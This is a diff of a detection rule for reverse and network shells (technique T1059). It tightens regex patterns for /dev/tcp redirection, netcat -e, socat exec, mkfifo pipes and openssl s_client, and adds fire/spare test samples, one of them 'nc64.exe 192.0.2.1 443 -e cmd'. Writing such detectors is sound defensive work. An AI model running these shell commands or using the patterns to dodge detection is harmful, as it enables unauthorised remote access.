@@ -2,13 +2,16 @@
 -- platform:        any
 -- technique:       T1059
 -- weight:          80
--- false positives: a monitoring check that opens /dev/tcp to test a port and sends nothing
+-- false positives: a demonstration or a rescue console that an administrator put on the network
 --
--- pattern: unix /dev/(tcp|udp)/
--- pattern: unix (^|[/ "';|&@])(nc|ncat|netcat|nc\.openbsd|nc\.traditional)( .*)? -[a-zA-Z]*[ec][a-zA-Z]* 
+-- pattern: unix (>&|&>|<>|[0-9]>|[^0-9]> ?) */dev/(tcp|udp)/[^;|]*(0|1)>&[0-9]
+-- pattern: unix <> */dev/(tcp|udp)/.*[;|].*(^|[ /;|])((ba|da|z|)sh|while)( |$)
+-- pattern: unix (ba|z|k|)sh +-[il].*/dev/(tcp|udp)/
+-- pattern: unix /inet/(tcp|udp)/
+-- pattern: unix (^|[/ "';|&@])(nc|ncat|netcat|nc\.openbsd|nc\.traditional)( [^;|&]*)? (-[a-zA-Z]*[ec]|--exec|--sh-exec)[ =]+["']?[^ ]*(sh|cmd|python|perl|/)
 -- pattern: unix (^|[/ "';|&@])(nc|ncat|netcat) [^;]*\| *(/bin/|/usr/bin/)?(ba|da|z|)sh
 -- pattern: unix mkfifo [^;]*;.*(nc|ncat|netcat|telnet|openssl)
--- pattern: unix socat .*(exec|EXEC|system|SYSTEM):
+-- pattern: unix socat .*(exec|EXEC|system|SYSTEM):["']?[^ ,]*(sh|bash|python|perl|login|cmd)
 -- pattern: unix (ba|z|k|)sh +-i *(>|<|[0-9]>|&>|$)
 -- pattern: unix socket.*(subprocess|pty\.spawn|dup2|exec)
 -- pattern: unix openssl s_client .*\|
@@ -19,5 +22,13 @@
 -- fires:   {"windows": "$c = New-Object System.Net.Sockets.TCPClient(1)"}
 -- fires:   {"windows": "nc64.exe 192.0.2.1 443 -e cmd"}
 -- spares:  {"unix": "nc -z 192.0.2.1 443"}
+-- spares:  {"unix": "bash -c \"echo > /dev/tcp/127.0.0.1/5432\""}
 -- spares:  {"unix": "socat tcp-listen:80 unix:/run/x"}
 -- spares:  {"windows": "nc64.exe -l 443"}
+--
+-- shape:   unit_command
+-- fires:   {"script_patterns": "[\"network_shell\"]"}
+-- fires:   {"script_patterns": "[\"downloads\",\"network_shell\"]"}
+-- spares:  {"script_patterns": "[\"downloads\"]"}
+-- spares:  {"script_patterns": null}
+script_patterns LIKE '%"network_shell"%'
